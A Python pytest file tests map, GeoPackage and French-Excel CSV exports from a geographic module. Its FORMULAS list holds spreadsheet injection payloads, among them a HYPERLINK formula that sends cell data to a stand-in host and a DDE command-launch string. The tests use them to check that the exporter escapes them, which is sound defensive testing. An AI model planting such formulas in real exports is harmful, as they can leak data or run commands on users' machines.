"""Exports: offline HTML map, GeoPackage layers and CSV for a French Excel."""

import csv
import datetime as dt
import io
import re

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely

from geo.render import (
    commune_map,
    export_csv_fr,
    export_geopackage,
    export_html,
    read_csv_fr,
    remote_references,
    sanitize_layer_name,
)


def test_export_html_is_offline(territory, tmp_path):
    m = commune_map(
        territory.communes,
        "ifn_global",
        title="Fragilité numérique",
        legend_title="IFN",
        epci=territory.epci,
        sites=territory.sites,
    )
    path = export_html(m, tmp_path / "sous" / "carte.html")
    document = path.read_text(encoding="utf-8")
    assert remote_references(document) == []
    # Outside inline scripts (Leaflet's code holds its own URLs as text), no src/href
    # attribute points anywhere but inside the document.
    markup = re.sub(r"<script>.*?</script>", "", document, flags=re.DOTALL)
    assert re.findall(r"""(?:src|href)\s*=\s*["']?(?:https?:)?//""", markup) == []
    assert "Fragilité numérique" in document


def test_geopackage_layers_read_back(territory, tmp_path):
    zones = gpd.GeoDataFrame(
        {
            "zone_id": ["z1", "z2"],
            "communes": [["72001", "72002"], ["72003"]],
            "details": [{"rang": 1}, {"rang": 2}],
        },
        geometry=[shapely.box(0, 0, 1000, 1000), shapely.box(5000, 5000, 6000, 6000)],
        crs=2154,
    )
    layers = {
        "Communes": territory.communes,
        "EPCI": territory.epci,
        "Lieux d'accueil": territory.sites,
        "Zones sous-desservies (20 min)": zones,
        "Tableau": pd.DataFrame({"epci": ["a", "b"], "valeur": [1.5, 2.0]}),
    }
    path = export_geopackage(layers, tmp_path / "maillage.gpkg")
    names = [name for name, _ in pyogrio.list_layers(path)]
    assert names == [
        "communes",
        "epci",
        "lieux_d_accueil",
        "zones_sous_desservies_20_min",
        "tableau",
    ]
    for (name, layer), table in zip(layers.items(), names, strict=True):
        back = pyogrio.read_dataframe(path, layer=table)
        assert len(back) == len(layer), name
        if isinstance(layer, gpd.GeoDataFrame):
            assert back.crs.to_epsg() == 2154
    communes = pyogrio.read_dataframe(path, layer="communes").set_index("code_insee")
    assert communes.index.equals(territory.communes.index)
    back_zones = pyogrio.read_dataframe(path, layer="zones_sous_desservies_20_min")
    assert back_zones.loc[0, "communes"] == '["72001", "72002"]'
    assert back_zones.loc[1, "details"] == '{"rang": 2}'
    epci = pyogrio.read_dataframe(path, layer="epci")
    assert epci["geometry_full"].str.startswith(("POLYGON", "MULTIPOLYGON")).all()


def test_geopackage_errors_and_names(tmp_path):
    with pytest.raises(ValueError, match="Aucune couche"):
        export_geopackage({}, tmp_path / "x.gpkg")
    no_crs = gpd.GeoDataFrame({"a": [1]}, geometry=[shapely.Point(0, 0)])
    with pytest.raises(ValueError, match="système de coordonnées"):
        export_geopackage({"points": no_crs}, tmp_path / "x.gpkg")
    assert sanitize_layer_name("Écoles 2024") == "ecoles_2024"
    assert sanitize_layer_name("2024") == "couche_2024"
    assert sanitize_layer_name("!!!") == "couche"


def test_csv_round_trip_french_excel(tmp_path):
    frame = pd.DataFrame(
        {
            "code_insee": ["72001", "01004"],
            "nom": ["Aigné", "Ambérieu; « en »"],
            "taux": [0.125, np.nan],
            "population": [1695, 14000],
            "date": pd.to_datetime(["2026-05-12", "2026-01-01"]),
            "actif": [True, False],
        }
    ).set_index("code_insee")
    path = export_csv_fr(frame, tmp_path / "table.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0] == "code_insee;nom;taux;population;date;actif"
    assert "72001;Aigné;0,125;1695;2026-05-12;True" in text
    back = read_csv_fr(path, index_col="code_insee")
    assert list(back.index) == ["72001", "01004"]
    pd.testing.assert_frame_equal(back, frame, check_dtype=False, check_index_type=False)
    assert pd.api.types.is_datetime64_any_dtype(back["date"])


def test_csv_unnamed_index_and_points(territory, tmp_path):
    plain = pd.DataFrame({"a": [1.5, 2.25]})
    path = export_csv_fr(plain, tmp_path / "plain.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines() == ["a", "1,5", "2,25"]
    sites = territory.sites[["site_id", "name", "site_type", "geometry"]].head(3)
    back = read_csv_fr(export_csv_fr(sites, tmp_path / "sites.csv"))
    assert list(back.columns) == ["site_id", "name", "site_type", "longitude", "latitude"]
    assert back["latitude"].between(47, 49).all()
    assert back["site_id"].tolist() == sites["site_id"].tolist()


def test_csv_datetimes_keep_time(tmp_path):
    frame = pd.DataFrame({"quand": [dt.datetime(2026, 5, 12, 14, 30), None]})
    frame["quand"] = pd.to_datetime(frame["quand"])
    text = export_csv_fr(frame, tmp_path / "t.csv").read_text(encoding="utf-8-sig")
    assert "2026-05-12T14:30:00" in text


FORMULAS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez ici")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path) -> list[list[str]]:
    text = path.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    texts = [*FORMULAS, "Aigné", "'=déjà échappé", "Le Mans - centre"]
    frame = pd.DataFrame(
        {
            "nom": texts,
            "écart": np.linspace(-1.5, 1.5, len(texts)),
            "rang": np.arange(-5, len(texts) - 5),
        }
    )
    path = export_csv_fr(frame, tmp_path / "formules.csv")
    rows = _cells(path)
    assert rows[0] == ["nom", "écart", "rang"]
    names = [row[0] for row in rows[1:]]
    assert names[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
    assert names[len(FORMULAS) :] == ["Aigné", "''=déjà échappé", "Le Mans - centre"]
    # Numbers stay numbers, negative ones included: no apostrophe, decimal comma.
    assert rows[1][1:] == ["-1,5", "-5"]
    assert all(not cell.startswith("'") for row in rows[1:] for cell in row[1:])
    back = read_csv_fr(path)
    assert back["nom"].tolist() == texts
    np.testing.assert_allclose(back["écart"], frame["écart"])
    assert back["rang"].tolist() == frame["rang"].tolist()


def test_csv_neutralises_headers_index_and_categories(tmp_path):
    frame = pd.DataFrame(
        {"=cmd": pd.Categorical(["@SUM(A1)", "ok"]), "valeur": [1, 2]},
        index=pd.Index(["+33 6", "72001"], name="-code"),
    )
    rows = _cells(export_csv_fr(frame, tmp_path / "entetes.csv"))
    assert rows[0] == ["'-code", "'=cmd", "valeur"]
    assert rows[1] == ["'+33 6", "'@SUM(A1)", "1"]
    back = read_csv_fr(tmp_path / "entetes.csv", index_col="-code")
    assert back.index.tolist() == ["+33 6", "72001"]
    assert back["=cmd"].tolist() == ["@SUM(A1)", "ok"]
